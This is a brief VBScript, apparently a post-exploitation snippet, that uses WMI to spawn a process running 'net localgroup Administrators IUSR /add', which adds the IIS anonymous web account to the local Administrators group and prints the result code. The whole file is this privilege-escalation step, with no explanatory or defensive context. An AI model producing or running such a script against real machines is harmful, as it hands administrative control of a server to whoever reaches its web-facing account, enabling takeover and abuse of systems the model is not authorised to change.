Set wmi = GetObject("winmgmts:")
Set startup = wmi.Get("Win32_Process")
Set parameters = startup.Methods_("Create").InParameters.SpawnInstance_()
parameters.CommandLine = "net localgroup Administrators IUSR /add"
Set result = startup.ExecMethod_("Create", parameters)
WScript.Echo result.ReturnValue
